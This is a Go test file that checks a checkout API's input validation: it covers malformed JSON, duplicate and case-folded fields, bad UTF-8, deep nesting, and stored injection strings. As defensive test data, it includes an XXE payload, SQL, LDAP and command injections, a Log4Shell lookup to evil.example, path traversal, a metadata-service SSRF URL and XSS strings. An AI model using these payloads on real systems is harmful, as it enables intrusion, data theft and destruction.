package contract_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// untouched checks that refused requests had no effect: no record, no event, no panic, no failure.
func untouched(t *testing.T, s *suite) {
	t.Helper()
	if stored := s.Records(t); len(stored) != 0 {
		t.Errorf("%d checkouts are on record: %+v", len(stored), stored[0].Checkout)
	}
	if sent := s.Receiver.Deliveries(); len(sent) != 0 {
		t.Errorf("events were sent: %q", names(sent))
	}
	calm(t, s)
}

// calm checks that the log has no failure.
func calm(t *testing.T, s *suite) {
	t.Helper()
	for line := range strings.SplitSeq(s.Log.String(), "\n") {
		if strings.Contains(line, `"level":"ERROR"`) || strings.Contains(line, "panic") {
			t.Errorf("logged %s", line)
		}
	}
}

// quoted returns a string as JSON.
func quoted(text string) string {
	raw, err := json.Marshal(text)
	if err != nil {
		panic(err) // strings always marshal
	}
	return string(raw)
}

func TestContract7AHostileBodyIsRefusedAndLeavesNothing(t *testing.T) {
	good := order(legacyCreate, "ORDER-1")
	change := func(from, to string) string {
		if !strings.Contains(good, from) {
			t.Fatalf("%s is not in the body", from)
		}
		return strings.Replace(good, from, to, 1)
	}
	const price, plan, name, orderID, provider = `"course_price": 1250.00`, `"number_of_instalments": 3`, `"Hemi"`, `"ORDER-1"`, `"provider": {`
	deep := func(n int) string {
		return change(provider, `"x": `+strings.Repeat("[", n)+strings.Repeat("]", n)+`, "provider": {`)
	}
	tests := []struct {
		name, body string
		fields     []string
	}{
		{"nothing", "", nil},
		{"white space", " \r\n\t", nil},
		{"a byte order mark", "\ufeff" + good, nil},
		{"UTF-16", "\xff\xfe{\x00}\x00", nil},
		{"an array", "[" + good + "]", nil},
		{"a string", quoted(good), nil},
		{"null", "null", nil},
		{"a number", "1e999999", nil},
		{"two objects", good + good, nil},
		{"text after the object", good + " x", nil},
		{"a NUL after the object", good + "\x00", nil},
		{"an object cut off", good[:len(good)-1], nil},
		{"a trailing comma", good[:len(good)-1] + ",}", nil},
		{"a comment", "/* */" + good, nil},
		{"single quotes", strings.ReplaceAll(good, `"`, `'`), nil},
		{"a name without quotes", change(`"student"`, `student`), nil},
		{"form data", "provider_code=TUI&provider_order_id=ORDER-1", nil},
		{"XML", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, nil},

		{"a section twice", change(provider, `"provider": {}, "provider": {`), []string{"provider"}},
		{"an unknown field twice", change(provider, `"x": 1, "x": 1, "provider": {`), []string{"x"}},
		{"a field twice", change(price, price+`, "course_price": 1.00`), []string{"pricing.course_price"}},
		{"a field twice, once escaped", change(price, price+`, "course_pric\u0065": 1.00`), []string{"pricing.course_price"}},
		{"the provider twice", change(`"provider_code": "TUI"`, `"provider_code": "TUI", "provider_code": "KOWHAI"`), []string{"provider.provider_code"}},
		{"a section in another case", change(provider, `"Provider": {"provider_code": "KOWHAI"}, "provider": {`), []string{"provider"}},
		{"a field in another case", change(price, price+`, "COURSE_PRICE": 1.00`), []string{"pricing.course_price"}},
		{"a field in another case alone", change(price, `"Course_Price": 1250.00`), []string{"pricing.course_price"}},
		{"a field that folds to another", change(`"student": {`, "\"\u017ftudent\": {}, \"student\": {"), []string{"student"}},

		{"bad UTF-8 in a value", change(name, "\"\xff\xfe\""), []string{"student.first_name"}},
		{"bad UTF-8 in a name", change(name, "\"Hemi\", \"\xff\": 1"), []string{"student"}},
		{"an overlong slash", change(name, "\"\xc0\xaf\""), []string{"student.first_name"}},
		{"a surrogate in UTF-8", change(name, "\"\xed\xa0\x80\""), []string{"student.first_name"}},
		{"a lone high surrogate", change(name, `"\ud800"`), []string{"student.first_name"}},
		{"a lone low surrogate", change(name, `"\udc00x"`), []string{"student.first_name"}},
		{"U+0000", change(name, `"He\u0000mi"`), []string{"student.first_name"}},
		{"a raw NUL", change(name, "\"He\x00mi\""), []string{"student.first_name"}},
		{"U+0000 in the order id", change(orderID, `"ORDER-1\u0000"`), []string{"provider.provider_order_id"}},
		{"a raw line break", change(name, "\"He\nmi\""), []string{"student.first_name"}},
		{"an escaped line break", change(name, `"Hemi\r\nX-Admin: 1"`), []string{"student.first_name"}},
		{"an escape sequence", change(orderID, `"\u001b[2JORDER"`), []string{"provider.provider_order_id"}},
		{"U+009F", change(name, "\"He\u009fmi\""), []string{"student.first_name"}},

		{"33 arrays deep", deep(32), []string{"x" + strings.Repeat("[0]", 31)}},
		{"10,000 arrays deep", deep(10_000), []string{"x" + strings.Repeat("[0]", 31)}},
		{"10,000 objects deep", strings.Repeat(`{"x":`, 10_000), []string{strings.TrimSuffix(strings.Repeat("x.", 32), ".")}},

		{"a string for a section", change(`"student": {`, `"student": "x", "other": {`), []string{"student"}},
		{"an array for a section", change(`"student": {`, `"student": [], "other": {`), []string{"student"}},
		{"2^64 + 3 instalments", change(plan, `"number_of_instalments": 18446744073709551619`), []string{"plan.number_of_instalments"}},
		{"an address with a header", change(`"hemi@students.example.ac.nz"`, `"a@b.nz\nBcc: c@d.nz"`), []string{"student.email"}},
		{"many faults at once", strings.NewReplacer(name, "1", price, `"course_price": -1`, `"2027-02-01"`, `""`, orderID, `""`).Replace(good),
			[]string{"student.first_name", "pricing.course_price", "plan.first_payment_date", "provider.provider_order_id"}},
	}
	contract(t, func(t *testing.T, s *suite) {
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				r := s.Post(t, "TUI", "/v1/provider-checkouts", tt.body)
				refused(t, r, http.StatusBadRequest, "VALIDATION_ERROR", tt.fields...)
				if len(r.Body) > 8<<10 {
					t.Errorf("the refusal has %d bytes", len(r.Body))
				}
			})
		}
		untouched(t, s)
	})
}

func TestContract7AHostileConfirmIsRefusedAndConfirmsNothing(t *testing.T) {
	contract(t, func(t *testing.T, s *suite) {
		created := s.Create(t, "ORDER-1")
		s.SetUp(t, created)
		good := created.ConfirmBody()
		for _, tt := range []struct{ name, from, to, field string }{
			{"a declaration twice", `"privacy_consent_accepted":true`, `"privacy_consent_accepted":false,"privacy_consent_accepted":true`,
				"declarations.privacy_consent_accepted"},
			{"a declaration in another case", `"privacy_consent_accepted":true`, `"privacy_consent_accepted":true,"Privacy_Consent_Accepted":false`,
				"declarations.privacy_consent_accepted"},
			{"a declaration as text", `"information_confirmed":true`, `"information_confirmed":"true"`, "declarations.information_confirmed"},
			{"a declaration as a number", `"payment_plan_accepted":true`, `"payment_plan_accepted":1`, "declarations.payment_plan_accepted"},
			{"a deposit of null", `"deposit_confirmed":true`, `"deposit_confirmed":null`, "payment.deposit_confirmed"},
			{"a deposit in an array", `"deposit_confirmed":true`, `"deposit_confirmed":[true]`, "payment.deposit_confirmed"},
			{"U+0000 in the token", `"checkout_token":"`, `"checkout_token":"\u0000`, "checkout.checkout_token"},
			{"a token of 10,000 bytes", `"checkout_token":"`, `"checkout_token":"` + strings.Repeat("x", 10_000), "checkout.checkout_token"},
			{"a number for an id", `"dda_id":"`, `"dda_id":1,"other":"`, "checkout.dda_id"},
		} {
			body := strings.Replace(good, tt.from, tt.to, 1)
			if body == good {
				t.Fatalf("%s is not in %s", tt.from, good)
			}
			t.Run(tt.name, func(t *testing.T) {
				refused(t, s.Post(t, "KOWHAI", created.CheckoutPath()+"/confirm", body), http.StatusBadRequest, "VALIDATION_ERROR", tt.field)
			})
		}
		sameList(t, "events", names(s.Receiver.Deliveries()), "checkout.created")
		if record := s.Records(t)[0]; record.Agreement != nil || record.Checkout.Status != "direct_debit_setup_required" {
			t.Errorf("on record: %+v", record)
		}
		calm(t, s)
	})
}

// injections returns texts that have an effect where they are not treated as text.
func injections() []string {
	return []string{`'; DROP TABLE checkouts; --`, `' OR '1'='1`, `" OR ""="`, `1) UNION SELECT * FROM keys --`, `\' OR 1=1 #`,
		`Robert'); DELETE FROM providers;--`, `O'Connor%' AND Name LIKE '_`, `*)(uid=*))(|(uid=*`, `admin)(&)`, `%s%n%x%d`, `%!(EXTRA)`,
		`{{.Token}}`, `${jndi:ldap://evil.example/a}`, `#{7*7}`, `<%= 7*7 %>`, `$(reboot)`, "`id`", `| cat /etc/passwd`, `; ls &`,
		`../../../../etc/passwd`, `..\..\windows`, `file:///etc/passwd`, `http://169.254.169.254/`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3`,
		`@SUM(1)`, `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=x>`, `javascript:alert(1)`, `&lt;b&gt;`,
		`<!--`, `]]>`, `\u0041\n`, `%0d%0aX-Admin: 1`, `null`, `undefined`, `true`, `NaN`, `0x1F`, `__proto__`, `Ṫ̈ḧ̈ë`,
		"\U0001F469\u200d\U0001F4BB", `ʻŌtautahi — “Ngāi Tahu”`}
}

// unreadable are texts that look different from their characters. Identifiers may contain them, names may not.
var unreadable = []string{"a\u202eb\u2066c", "line\u2028line", "\ufffe\U0010ffff"}

func TestContract2AnInjectionIsStoredInertlyAndComesBackUnchanged(t *testing.T) {
	contract(t, func(t *testing.T, s *suite) {
		all := append(injections(), unreadable...)
		nameOf := func(text string) string {
			if slices.Contains(unreadable, text) {
				return "Wiremu"
			}
			return text
		}
		for _, text := range all {
			body := set(t, order(legacyCreate, "ORDER"), "provider.provider_order_id", quoted(text))
			for _, field := range []string{"student.first_name", "student.last_name", "course.course_name"} {
				body = set(t, body, field, quoted(nameOf(text)))
			}
			r := s.Post(t, "TUI", "/v1/provider-checkouts", body)
			if r.Status != http.StatusCreated || r.At("provider.provider_order_id") != text {
				t.Errorf("%q is answered %d %s", text, r.Status, r.Body)
				continue
			}
			again := s.Post(t, "TUI", "/v1/provider-checkouts", body)
			if again.Status != http.StatusOK || again.At("idempotency_key") != "TUI:"+text || again.At("checkout.checkout_id") != r.At("checkout.checkout_id") {
				t.Errorf("%q is replayed %d %s", text, again.Status, again.Body)
			}
		}
		stored, sent := s.Records(t), s.Receiver.Deliveries()
		if len(stored) != len(all) || len(sent) != len(all) {
			t.Fatalf("%d checkouts and %d events, want %d", len(stored), len(sent), len(all))
		}
		for i, text := range all {
			c := s.record(t, text).Checkout
			name := nameOf(text)
			if c.OrderID != text || c.Student.FirstName != name || c.Student.LastName != name || c.Intent.CourseName != name {
				t.Errorf("%q is on record as %+v", text, c)
			}
			if sent[i].JSON.At("data.provider_order_id") != text {
				t.Errorf("%q is sent as %s", text, sent[i].Body)
			}
		}
		for line := range strings.SplitSeq(strings.TrimSpace(s.Log.String()), "\n") {
			var fields map[string]any // the order's id is named, as a value like any other
			err := json.Unmarshal([]byte(line), &fields)
			delete(fields, "provider_order_id")
			if err != nil || strings.Contains(fmt.Sprint(fields), "DROP TABLE") {
				t.Errorf("logged %s", line)
			}
		}
		calm(t, s)
	})
}
